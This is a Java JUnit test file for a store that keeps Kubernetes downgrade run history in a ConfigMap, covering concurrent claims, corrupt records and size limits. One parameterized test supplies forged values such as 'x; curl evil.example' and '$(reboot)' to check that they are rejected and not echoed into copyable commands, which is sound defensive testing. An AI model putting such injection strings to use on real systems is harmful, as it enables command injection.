package com.sourcegraph.downgrade.history;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sourcegraph.downgrade.testkit.cluster.InMemoryCluster;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.dsl.NonDeletingOperation;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The record on an API server: who comes late writes nothing. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RunHistoryStoreTest {
    private static final RunRecord BEGUN =
            new RunRecord("back", "first", "d1", "4.5.1", "4.0.1", "2026-01-01T10:00:00Z", null, null);
    private static final RunRecord OTHER =
            new RunRecord("other", "second", "d2", "4.5.1", "4.4.2", "2026-01-01T10:00:01Z", null, null);

    private final RunHistoryStore store = new RunHistoryStore();
    private InMemoryCluster cluster;
    private KubernetesClient client;
    private String namespace;

    @BeforeAll
    void start() {
        cluster = InMemoryCluster.start();
        client = cluster.client();
    }

    @AfterAll
    void stop() {
        client.close();
        cluster.close();
    }

    @BeforeEach
    void makeNamespace(TestInfo test) {
        namespace = test.getTestMethod().orElseThrow().getName().toLowerCase(Locale.ROOT);
        client.resource(new NamespaceBuilder()
                        .withNewMetadata()
                        .withName(namespace)
                        .endMetadata()
                        .build())
                .createOr(NonDeletingOperation::update);
    }

    @Test
    void aNamespaceInWhichNothingHasRunHasAnEmptyRecord() {
        assertThat(store.read(client, namespace)).isEqualTo(RunHistory.empty());
    }

    @Test
    void whatWasWrittenIsReadBack() {
        store.claim(client, namespace, store.read(client, namespace), BEGUN);
        RunHistory claimed = store.read(client, namespace);
        assertThat(claimed.holder()).contains(BEGUN);
        assertThat(claimed.runs()).isEmpty();

        RunRecord ended = BEGUN.ended("2026-01-01T11:00:00Z", RunRecord.COMPLETE);
        store.release(client, namespace, claimed, ended);

        RunHistory released = store.read(client, namespace);
        assertThat(released.holder()).isEmpty();
        assertThat(released.runs()).containsExactly(ended);
    }

    @Test
    void ofTwoThatClaimAtOnceOneIsRefused() {
        RunHistory seenByBoth = store.read(client, namespace);
        store.claim(client, namespace, seenByBoth, BEGUN);

        conflicts(() -> store.claim(client, namespace, seenByBoth, OTHER));
        assertThat(store.read(client, namespace).holder()).contains(BEGUN);
    }

    @Test
    void ofTwoThatClaimAfterAnotherOneIsRefused() {
        store.claim(client, namespace, store.read(client, namespace), BEGUN);
        store.release(
                client,
                namespace,
                store.read(client, namespace),
                BEGUN.ended("2026-01-01T11:00:00Z", RunRecord.CANCELLED));
        RunHistory seenByBoth = store.read(client, namespace);
        store.claim(client, namespace, seenByBoth, OTHER);

        conflicts(() -> store.claim(client, namespace, seenByBoth, BEGUN));
        assertThat(store.read(client, namespace).holder()).contains(OTHER);
    }

    @Test
    void aRecordThatCannotBeReadIsNotTakenForAnEmptyOne() {
        client.resource(new ConfigMapBuilder()
                        .withNewMetadata()
                        .withNamespace(namespace)
                        .withName(RunHistoryStore.NAME)
                        .endMetadata()
                        .addToData("runs.json", "not json")
                        .build())
                .create();

        assertThatThrownBy(() -> store.read(client, namespace))
                .isInstanceOf(CorruptHistoryException.class)
                .hasMessageContaining("kubectl -n " + namespace + " delete configmap sourcegraph-downgrade-history");
    }

    private static final String GOOD = """
            {"name": "back", "uid": "u-1", "specDigest": "sha256:ab", "from": "4.5.1", "to": "v4.0.1",
             "startedAt": "2026-01-01T10:00:00Z"}""";

    private static final String GOOD_ENDED =
            GOOD.replace("Z\"}", "Z\", \"finishedAt\": \"2026-01-01T11:00:00Z\", \"outcome\": \"Complete\"}");

    /** Who may write ConfigMaps could otherwise put a text of his own into commands that people copy. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "back | x; curl evil.example | the name",
                "back | Back | the name",
                "back | a..b | the name",
                "u-1 | $(reboot) | the uid",
                "sha256:ab | 'a b' | the specDigest",
                "4.5.1 | 4.5.1\\n# | the from",
                "v4.0.1 | `v4 0 1` | the to",
                "2026-01-01T10:00:00Z | yesterday | the startedAt",
                "\"name\": \"back\" | \"name\": null | the name",
                "\"uid\": \"u-1\", | | the uid"
            })
    void aForgedRecordIsRefusedWithoutQuotingIt(String field, String forged, String told) {
        String value = forged == null ? "" : forged;
        for (String record : List.of(GOOD, GOOD_ENDED)) {
            assertThat(record).contains(field);
            assertThatThrownBy(() -> readForged(record, record.equals(GOOD), field, value))
                    .isInstanceOf(CorruptHistoryException.class)
                    .hasMessageContaining(told)
                    .hasMessageContaining("delete configmap sourcegraph-downgrade-history")
                    .satisfies(e -> assertThat(e.getMessage()).doesNotContain("evil", "reboot", "yesterday"));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "[null]", "[", "{}"})
    void aListOfRunsThatIsNoneIsRefused(String runs) {
        write("", runs);
        assertThatThrownBy(() -> store.read(client, namespace)).isInstanceOf(CorruptHistoryException.class);
    }

    @Test
    void aHolderThatHasEndedAndAnEndedRunThatHasNotAreRefused() {
        write(GOOD_ENDED, "[]");
        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the holder has ended");
        write("", "[" + GOOD + "]");
        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the finishedAt");
        write("", "[" + GOOD_ENDED.replace("Complete", "Victory") + "]");
        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the outcome");
        write("null", "[]");
        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the holder is null");
        write(GOOD, "[" + GOOD_ENDED + "]");
        assertThat(store.read(client, namespace).runs()).hasSize(1);
    }

    private void readForged(String record, boolean holder, String field, String forged) {
        String text = record.replace(field, forged);
        write(holder ? text : "", holder ? "[]" : "[" + text + "]");
        store.read(client, namespace);
    }

    private void write(String holder, String runs) {
        client.resource(new ConfigMapBuilder()
                        .withNewMetadata()
                        .withNamespace(namespace)
                        .withName(RunHistoryStore.NAME)
                        .endMetadata()
                        .addToData("holder.json", holder)
                        .addToData("runs.json", runs)
                        .build())
                .createOr(NonDeletingOperation::update);
    }

    @Test
    void theLargestRecordFitsIntoAConfigMap() {
        RunRecord longest = new RunRecord(
                "n".repeat(63),
                "u".repeat(36),
                "sha256:" + "d".repeat(64),
                "5.11.123456789",
                "5.10.123456789",
                "2026-01-01T10:00:00Z",
                "2026-01-01T11:00:00Z",
                RunRecord.CANCELLED);
        RunHistory full =
                new RunHistory(Optional.empty(), Collections.nCopies(RunHistory.LIMIT, longest), Optional.empty());

        store.claim(client, namespace, full, BEGUN);

        RunHistory read = store.read(client, namespace);
        assertThat(read.runs()).hasSize(RunHistory.LIMIT);
        assertThat(client.configMaps()
                        .inNamespace(namespace)
                        .withName(RunHistoryStore.NAME)
                        .get()
                        .getData()
                        .values())
                .as("far below the mebibyte that a ConfigMap may have")
                .allSatisfy(text -> assertThat(text.length()).isLessThan(64 * 1024));
        assertThat(List.copyOf(read.runs())).containsOnly(longest);
    }

    private static void conflicts(org.assertj.core.api.ThrowableAssert.ThrowingCallable claim) {
        assertThatThrownBy(claim).isInstanceOfSatisfying(KubernetesClientException.class, e -> assertThat(e.getCode())
                .isEqualTo(409));
    }
}
